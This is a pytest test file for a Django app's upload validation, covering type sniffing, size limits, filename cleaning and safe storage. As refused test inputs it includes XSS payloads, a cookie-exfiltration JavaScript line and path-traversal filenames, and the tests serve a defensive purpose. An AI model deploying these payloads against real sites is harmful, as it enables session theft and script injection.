"""Uploads: the type from the content, size limits, names, storage outside the web root."""

import hashlib

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError

from werkplein.logbook.models import EntryKind, LogEntry, Visibility
from werkplein.messaging.attachments import (
    MAX_FILES_PER_MESSAGE,
    clean_name,
    save_attachment,
    validated_upload,
    validated_uploads,
)
from werkplein.messaging.models import Attachment

from .attachment_files import (
    jpeg,
    pdf,
    pdf_bytes,
    png,
    png_bytes,
    upload,
    use_attachment_root,
)


@pytest.fixture
def attachment_root(settings, tmp_path, monkeypatch):
    return use_attachment_root(settings, tmp_path, monkeypatch)


def _error(exc: pytest.ExceptionInfo) -> str:
    return " ".join(exc.value.messages)


@pytest.mark.parametrize(
    ("make", "content_type"),
    [(pdf, "application/pdf"), (png, "image/png"), (jpeg, "image/jpeg")],
)
def test_each_allowed_type_is_accepted(make, content_type):
    file = make()
    checked = validated_upload(file)
    assert checked.content_type == content_type
    assert checked.size == file.size
    file.seek(0)
    assert checked.sha256 == hashlib.sha256(file.read()).hexdigest()


def test_a_png_named_pdf_is_judged_by_its_content():
    checked = validated_upload(upload("rapport.pdf", png_bytes(), "application/pdf"))
    assert checked.content_type == "image/png"
    assert checked.name == "rapport.pdf.png"


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200,
        b"<html><script>alert(1)</script></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"PK\x03\x04" + b"\x00" * 100,
        b"gewoon wat tekst",
        b"document.location='https://example.org/?'+document.cookie;",
        b"\xef\xbb\xbf<!DOCTYPE html><html><body>%PDF-1.4</body></html>",
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    ],
    ids=["exe", "html", "svg", "zip", "text", "js", "html-with-pdf-inside", "gif"],
)
def test_wrong_content_with_a_right_name_is_refused(content):
    with pytest.raises(ValidationError) as exc:
        validated_upload(upload("cv.pdf", content, "application/pdf"))
    assert "Alleen PDF, JPEG of PNG" in _error(exc)


def test_too_large_is_refused(settings):
    settings.WERKPLEIN_ATTACHMENT_MAX_BYTES = 1024
    with pytest.raises(ValidationError) as exc:
        validated_upload(upload("groot.pdf", pdf_bytes() + b"\x00" * 2000))
    assert "te groot: maximaal" in _error(exc)


def test_ten_megabytes_is_the_limit():
    assert settings.WERKPLEIN_ATTACHMENT_MAX_BYTES == 10 * 1024 * 1024
    big = upload("groot.pdf", pdf_bytes() + b"\x00" * (10 * 1024 * 1024))
    with pytest.raises(ValidationError) as exc:
        validated_upload(big)
    assert _error(exc) == "Het bestand is te groot: maximaal 10 MB."


def test_a_large_file_whose_size_lies_is_still_refused(settings):
    settings.WERKPLEIN_ATTACHMENT_MAX_BYTES = 1024
    file = upload("groot.pdf", pdf_bytes() + b"\x00" * 2000)
    file.size = 10  # what a client claims is never trusted: the bytes are counted
    with pytest.raises(ValidationError):
        validated_upload(file)


def test_an_empty_file_is_refused():
    with pytest.raises(ValidationError) as exc:
        validated_upload(upload("leeg.pdf", b""))
    assert "leeg" in _error(exc)


@pytest.mark.parametrize("cut", [0.5, 0.8, 0.95])
def test_a_truncated_png_is_refused(cut):
    content = png_bytes((64, 64))
    with pytest.raises(ValidationError) as exc:
        validated_upload(upload("foto.png", content[: int(len(content) * cut)]))
    assert "beschadigd" in _error(exc)


def test_a_corrupt_png_is_refused():
    content = bytearray(png_bytes((32, 32)))
    content[40:60] = b"\x00" * 20
    with pytest.raises(ValidationError):
        validated_upload(upload("foto.png", bytes(content)))


def test_a_truncated_jpeg_is_refused():
    from .attachment_files import jpeg_bytes

    content = jpeg_bytes((128, 128))
    with pytest.raises(ValidationError):
        validated_upload(upload("foto.jpg", content[: len(content) // 2]))


def test_more_files_than_allowed_on_one_message_are_refused():
    with pytest.raises(ValidationError) as exc:
        validated_uploads([pdf() for _ in range(MAX_FILES_PER_MESSAGE + 1)])
    assert f"maximaal {MAX_FILES_PER_MESSAGE} bestanden" in _error(exc)
    assert len(validated_uploads([pdf() for _ in range(MAX_FILES_PER_MESSAGE)])) == 5


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\jan\\cv.pdf", "cv.pdf"),
        ("cv\x00\x1b[31m.pdf", "cv[31m.pdf"),
        ("  .verborgen.pdf ", "verborgen.pdf"),
        ("virus.exe", "virus.exe.pdf"),
        ("", "bijlage.pdf"),
        ("a" * 500 + ".pdf", "a" * 116 + ".pdf"),
        ("brief\u202egnp.pdf", "briefgnp.pdf"),
    ],
)
def test_names_are_cleaned_for_display(name, cleaned):
    assert clean_name(name, "application/pdf") == cleaned


def test_a_dossier_document_is_stored_outside_the_web_root_and_logged(world, attachment_root):
    coach = world.users["coach"]
    client = world.own_client
    attachment = save_attachment(
        actor=coach, client=client, upload=pdf("../cv jan.pdf"), visibility=Visibility.INTERNAL
    )
    attachment.refresh_from_db()
    assert attachment.original_name == "cv jan.pdf"
    assert attachment.content_type == "application/pdf"
    assert attachment.werkplein_id == client.werkplein_id
    path = attachment.file.path
    assert path.startswith(str(attachment_root))
    assert "cv" not in attachment.file.name  # the stored name never carries the uploaded one
    with open(path, "rb") as stored:
        assert stored.read() == pdf_bytes()
    entry = LogEntry.objects.get(client=client, kind=EntryKind.DOCUMENT)
    assert entry.visibility == Visibility.INTERNAL
    assert "cv jan.pdf" in entry.text


def test_a_failed_write_leaves_no_file(world, attachment_root, monkeypatch):
    import werkplein.messaging.attachments as module

    def broken(**kwargs):
        raise RuntimeError("database gone")

    monkeypatch.setattr(module, "record_event", broken)
    with pytest.raises(RuntimeError):
        save_attachment(
            actor=world.users["coach"], client=world.own_client, upload=pdf(), visibility="client"
        )
    assert not Attachment.objects.exists()
    assert not [p for p in attachment_root.rglob("*") if p.is_file()]


def test_a_rolled_back_caller_leaves_a_file_that_the_sweep_removes(world, attachment_root):
    import os
    import time

    from django.db import transaction

    from werkplein.messaging.attachments import sweep_orphans

    kept = save_attachment(
        actor=world.users["coach"], client=world.own_client, upload=pdf(), visibility="client"
    )
    with pytest.raises(RuntimeError), transaction.atomic():
        save_attachment(
            actor=world.users["coach"], client=world.own_client, upload=png(), visibility="client"
        )
        raise RuntimeError("the caller fails after the file was written")
    files = [p for p in attachment_root.rglob("*") if p.is_file()]
    assert len(files) == 2 and Attachment.objects.count() == 1
    assert sweep_orphans() == 0  # too fresh: it may belong to a transaction still running
    old = time.time() - 7200
    for path in files:
        os.utime(path, (old, old))
    from io import StringIO

    from django.core.management import call_command

    out = StringIO()
    call_command("sweep_attachments", stdout=out)
    assert out.getvalue().startswith("1 verweesde bijlage(n) verwijderd.")
    assert [p for p in attachment_root.rglob("*") if p.is_file()] == [
        attachment_root / kept.file.name
    ]
